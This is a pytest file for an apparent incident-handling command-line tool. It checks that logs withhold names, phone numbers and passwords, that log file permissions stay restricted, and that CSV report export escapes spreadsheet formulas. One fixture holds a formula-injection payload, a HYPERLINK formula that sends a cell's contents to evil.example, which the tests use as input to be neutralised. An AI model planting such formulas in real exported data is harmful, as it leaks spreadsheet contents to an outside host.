"""The log under logs/: written for the command line, 0600 in a 0700 folder, rotating, and
free of personal data; and ``report --csv`` neutralises spreadsheet formulas."""

from __future__ import annotations

import csv
import datetime as dt
import io
import logging
from pathlib import Path

import pytest
from sqlalchemy.exc import IntegrityError

from builders import add_incident
from callhandler import logfile
from callhandler.cli import main
from callhandler.logfile import LogSafe, logging_to, private_record
from callhandler.services import history
from callhandler.spreadsheet import safe_cell
from callhandler.storage.engine import Database
from signin_helpers import sign_in_as

NAME = "Jane Doughty"
NUMBER = "07700 900456"
E164 = "+447700900456"


def log_text(folder: Path) -> str:
    return (folder / "logs" / "callhandler.log").read_text(encoding="utf-8")


def record(name: str, msg: str, *args: object, error: BaseException | None = None):
    exc_info = (type(error), error, error.__traceback__) if error else None
    return logging.LogRecord(name, logging.ERROR, __file__, 1, msg, args, exc_info)


def test_text_arguments_and_exception_messages_are_withheld() -> None:
    try:
        raise ValueError(f"no person {NAME} at {NUMBER}")
    except ValueError as exc:
        error = exc
    clean = private_record(
        record(
            "callhandler.x", "job %s for %s, %d rows", LogSafe("calls.open"), NAME, 3, error=error
        )
    )
    text = logging.Formatter().format(clean)
    assert "job calls.open for [withheld], 3 rows" in text
    assert "builtins.ValueError: (message withheld)" in text
    assert "test_text_arguments_and_exception_messages_are_withheld" in text  # the frame
    assert NAME not in text and "7700" not in text


def test_causes_are_kept_as_types_and_frames_only() -> None:
    try:
        try:
            raise KeyError(NAME)
        except KeyError as inner:
            raise RuntimeError(f"lookup of {NUMBER} failed") from inner
    except RuntimeError as exc:
        error = exc
    text = logfile.frames_only(error)
    assert "builtins.KeyError" in text and "builtins.RuntimeError" in text
    assert NAME not in text and "7700" not in text


def test_other_libraries_messages_are_withheld_and_passwords_hidden() -> None:
    other = private_record(record("sqlalchemy.engine", "INSERT … (%s)", NAME))
    assert other.getMessage() == "(message withheld)"
    own = private_record(record("callhandler.x", "server postgresql://clerk:hunter2@db/ch"))
    assert own.getMessage() == "server postgresql://clerk:***@db/ch"


def test_the_original_record_is_left_for_other_handlers() -> None:
    original = record("callhandler.x", "for %s", NAME)
    private_record(original)
    assert original.getMessage() == f"for {NAME}"


def test_the_log_file_is_0600_in_a_0700_folder_even_after_rotation(tmp_path: Path) -> None:
    folder = tmp_path / "logs"
    folder.mkdir(mode=0o755)
    folder.chmod(0o755)
    old = folder / logfile.LOG_FILE
    old.write_text("an older line\n", encoding="utf-8")
    old.chmod(0o644)
    with logging_to(folder) as path:
        handler = next(
            h for h in logging.getLogger().handlers if getattr(h, "baseFilename", "") == str(path)
        )
        logging.getLogger("callhandler.test").info("one")
        handler.doRollover()
        logging.getLogger("callhandler.test").info("two")
    assert folder.stat().st_mode & 0o777 == 0o700
    files = sorted(folder.iterdir())
    assert [f.name for f in files] == ["callhandler.log", "callhandler.log.1"]
    assert all(f.stat().st_mode & 0o777 == 0o600 for f in files)
    assert not any(
        getattr(h, "baseFilename", "") == str(path) for h in logging.getLogger().handlers
    ), "the handler is removed when the block ends"


def test_a_failing_command_is_logged_without_the_name_or_number_typed(
    db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    """A database error quotes the statement's parameters (the number and the name typed):
    the command says one line and the log keeps the frames, not the words."""

    def failing_look_up(*_args: object, **_kwargs: object) -> None:
        raise IntegrityError("SELECT … WHERE e164 = ? AND name_key = ?", (E164, NAME), None)

    monkeypatch.setattr(history, "find_previous_calls", failing_look_up)
    data = tmp_path / "d"
    sign_in_as(monkeypatch, db_url, "hand1", "handler", data_dir=data)
    argv = ["lookup", "--phone", NUMBER, "--name", NAME, "--db", db_url, "--data-dir", str(data)]
    assert main(argv) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "unexpected error (IntegrityError)" in err
    assert str(data / "logs" / "callhandler.log") in err
    text = log_text(data)
    assert "lookup started" in text and "unexpected IntegrityError" in text
    assert "failing_look_up" in text  # the frame that raised
    assert "sqlalchemy.exc.IntegrityError: (message withheld)" in text
    for secret in (NAME, "Jane", "Doughty", "7700", "900456", E164):
        assert secret not in text
    assert (data / "logs" / "callhandler.log").stat().st_mode & 0o777 == 0o600
    assert (data / "logs").stat().st_mode & 0o777 == 0o700


def test_a_refused_command_is_logged_by_its_type_only(tmp_path: Path, capsys) -> None:
    data = tmp_path / "d"
    answers = tmp_path / "a.json"
    answers.write_text(f'{{"victim_name": "{NAME}", "victim_name": "{NAME}"}}', encoding="utf-8")
    assert main(["assess", "--answers", str(answers), "--data-dir", str(data)]) == 2
    assert "appears more than once" in capsys.readouterr().err
    text = log_text(data)
    assert "refused: BadInput" in text and "assess ended with exit code 2" in text
    assert "Jane" not in text and "victim_name" not in text


def test_running_many_commands_in_one_process_never_doubles_lines(tmp_path: Path) -> None:
    data = tmp_path / "d"
    before = list(logging.getLogger().handlers)
    for _ in range(3):
        assert main(["users", "list", "--data-dir", str(data)]) == 0
    assert log_text(data).count("users list started") == 3
    assert logging.getLogger().handlers == before


# -- report --csv ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+44 7700", "'+44 7700"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("-12.5", "-12.5"),
        ("1,234", "1,234"),
        ("Ann", "Ann"),
    ],
)
def test_safe_cell(cell: str, shown: str) -> None:
    assert safe_cell(cell) == shown


def test_report_csv_neutralises_formulas_like_the_window(
    db: Database, db_url: str, capsys, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sign_in_as(monkeypatch, db_url, "insp1", "inspector")
    today = dt.datetime.now(dt.UTC)
    suspect = ("suspect", '=HYPERLINK("http://evil.example/?"&A1,"open")', dt.date(1980, 1, 1))
    for number, ref in enumerate(("F-1", "F-2")):
        add_incident(
            db,
            ref,
            days_ago=10 + number,
            now=today,
            phone=f"07700 90070{number}",
            address=f"{number} Formula Way",
            postcode="CB1 1AA",
            people=[("victim", f"@Victim {number}"), suspect],
        )
    assert main(["report", "serial-perpetrators", "--csv", "--db", db_url]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows and rows[0]["name"] == "'" + suspect[1]
    cells = [v for row in rows for v in row.values() if v]
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in cells)
